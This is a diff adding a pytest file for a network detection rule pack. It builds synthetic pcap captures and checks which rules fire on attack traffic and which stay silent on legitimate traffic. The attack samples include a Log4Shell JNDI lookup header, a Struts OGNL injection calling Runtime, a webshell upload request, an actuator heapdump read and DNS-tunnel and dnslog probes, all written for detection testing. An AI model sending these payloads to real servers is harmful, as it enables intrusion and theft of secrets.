@@ -1,0 +1,144 @@
+"""The pack on packets: captures made here, octet by octet, that the capture sensor reads into flows and messages."""
+
+import ipaddress
+import struct
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+
+from correlation.matcher.engine import Matcher
+from correlation.rules.loading import load_rules
+from sensors.event.model import Source
+from sensors.reading.detection import detect
+from sensors.reading.model import Position
+
+PACK = Path(__file__).parents[3] / "correlation" / "pack"
+START = 1_795_136_400
+SYN, ACK, SYN_ACK, PUSH, FIN = 0x02, 0x10, 0x12, 0x18, 0x11
+Packet = bytes
+
+
+def ip4(protocol: int, source: str, destination: str, body: bytes) -> Packet:
+    """An Ethernet frame with an IPv4 packet, RFC 791; checksums are left at zero."""
+    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0x4000, 64, protocol, 0)
+    addresses = ipaddress.IPv4Address(source).packed + ipaddress.IPv4Address(destination).packed
+    return b"\x02\x00\x00\x00\x00\x01\x02\x00\x00\x00\x00\x02\x08\x00" + head + addresses + body
+
+
+def udp(source: tuple[str, int], destination: tuple[str, int], body: bytes) -> Packet:
+    head = struct.pack("!HHHH", source[1], destination[1], 8 + len(body), 0)
+    return ip4(17, source[0], destination[0], head + body)
+
+
+def tcp_session(client: tuple[str, int], server: tuple[str, int], turns: Sequence[tuple[bytes, bytes]]) -> list[Packet]:
+    """A connection from its handshake to its end (RFC 9293): in each turn the client sends and the server answers."""
+    mine, theirs = 1_000, 9_000
+
+    def segment(*, up: bool, flags: int, body: bytes = b"") -> Packet:
+        one, other = (client, server) if up else (server, client)
+        numbers = (mine, theirs) if up else (theirs, mine)
+        head = struct.pack("!HHIIBBHHH", one[1], other[1], *numbers, 5 << 4, flags, 65_535, 0, 0)
+        return ip4(6, one[0], other[0], head + body)
+
+    packets = [segment(up=True, flags=SYN)]
+    mine += 1
+    packets.append(segment(up=False, flags=SYN_ACK))
+    theirs += 1
+    packets.append(segment(up=True, flags=ACK))
+    for said, answered in turns:
+        packets.append(segment(up=True, flags=PUSH, body=said))
+        mine += len(said)
+        packets.append(segment(up=False, flags=PUSH, body=answered))
+        theirs += len(answered)
+    packets += [segment(up=True, flags=FIN), segment(up=False, flags=FIN)]
+    return packets
+
+
+def dns(name: str, kind: int = 1) -> bytes:
+    """A query for one name, RFC 1035, section 4."""
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return struct.pack("!HHHHHH", 0x4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
+
+
+def request(line: str, *headers: str) -> bytes:
+    return "\r\n".join([f"{line} HTTP/1.1", "Host: synthetic.example", *headers, "", ""]).encode()
+
+
+OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+TALK = [(b"\0" * 90, b"\0" * 120)] * 3
+
+
+def web(line: str, *headers: str) -> list[Packet]:
+    return tcp_session(("203.0.113.22", 40_000), ("10.60.0.40", 80), [(request(line, *headers), OK)])
+
+
+def asks(server: str, name: str, kind: int = 1) -> list[Packet]:
+    return [udp(("10.70.1.8", 53_311), (server, 53), dns(name, kind))]
+
+
+def capture(path: Path, packets: Sequence[Packet]) -> Path:
+    """A classic pcap file of link type Ethernet."""
+    head = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65_535, 1)
+    records = [
+        struct.pack("<IIII", START, number * 1_000, len(packet), len(packet)) + packet
+        for number, packet in enumerate(packets)
+    ]
+    path.write_bytes(head + b"".join(records))
+    return path
+
+
+@pytest.fixture(scope="module")
+def matcher() -> Matcher:
+    return Matcher(load_rules([PACK])[0])
+
+
+def fired(matcher: Matcher, path: Path) -> set[str]:
+    portions = detect(path).portions(path, Source("11" * 16, "capture", path.name), Position(), 0)
+    batches = [batch for portion in portions for batch in portion.batches]
+    assert batches, "the capture sensor read no event"
+    hits = (match for batch in batches for match in matcher.match(batch))
+    return {Path(rule.path).stem for match in hits for rule in match.rules}
+
+
+LONG = f"{'5f3a0011' * 6}.{'8899aabb' * 6}.t.synthetic.example"
+
+ATTACKS = {
+    "smb_to_outside": tcp_session(("10.31.7.45", 50_331), ("198.51.100.23", 445), TALK),
+    "admin_protocols_from_outside": tcp_session(("203.0.113.77", 51_514), ("10.12.8.20", 3389), TALK),
+    "lateral_movement_between_districts": tcp_session(("59.255.12.31", 49_811), ("59.255.88.9", 5985), TALK),
+    "controller_port_from_outside": tcp_session(("203.0.113.82", 51_514), ("192.168.70.11", 102), TALK),
+    "iec104_from_outside": tcp_session(("59.255.70.4", 51_514), ("192.168.80.4", 2404), TALK),
+    "teredo_flow": [
+        udp(("10.70.1.8", 51_000), ("203.0.113.98", 3544), b"\0" * 60),
+        udp(("203.0.113.98", 3544), ("10.70.1.8", 51_000), b"\0" * 80),
+    ],
+    "unregistered_dns_resolver": asks("223.5.5.5", "synthetic-news.example"),
+    "out_of_band_probe_domain": asks("10.0.0.53", "synthetic77.s1.dnslog.cn"),
+    "dns_tunnel_long_name": asks("10.0.0.53", LONG, 16),
+    "log4shell_probe": web("GET /", "User-Agent: ${jndi:ldap://192.0.2.99/synthetic}"),
+    "struts_ognl_injection": web("GET /a.action?redirect:%24%7b%23x%3d%40java.lang.Runtime%40getRuntime()%7d"),
+    "webshell_in_upload_folder": web("POST /cms/uploadfile/202611/synthetic7.jsp?c=1", "Content-Length: 0"),
+    "spring_actuator_secret_read": web("GET /actuator/heapdump"),
+}
+LEGITIMATE = {
+    "smb_inside": tcp_session(("10.31.7.45", 50_331), ("10.31.1.5", 445), TALK),
+    "refused_rdp": tcp_session(("203.0.113.77", 51_514), ("10.12.8.20", 3389), [])[:1],
+    "https_between_districts": tcp_session(("59.255.12.31", 49_811), ("59.255.88.9", 443), TALK),
+    "controller_inside": tcp_session(("192.168.70.2", 51_514), ("192.168.70.11", 102), TALK),
+    "stun": [udp(("10.70.1.8", 51_000), ("203.0.113.98", 3478), b"\0" * 60)],
+    "registered_forwarder": [udp(("10.0.0.53", 53_311), ("223.5.5.5", 53), dns("synthetic-news.example"))],
+    "mail_policy": asks("10.0.0.53", "synthetic._domainkey.mail.example", 16),
+    "page": web("GET /cms/uploadfile/202611/synthetic.pdf", "User-Agent: Mozilla/5.0 (synthetic)"),
+    "health": web("GET /actuator/health", "User-Agent: kube-probe/1.30"),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_fires_on_packets(matcher: Matcher, tmp_path: Path, name: str) -> None:
+    assert fired(matcher, capture(tmp_path / "made.pcap", ATTACKS[name])) == {name}
+
+
+@pytest.mark.parametrize("name", LEGITIMATE)
+def test_leaves_legitimate_packets_alone(matcher: Matcher, tmp_path: Path, name: str) -> None:
+    assert fired(matcher, capture(tmp_path / "made.pcap", LEGITIMATE[name])) == set()
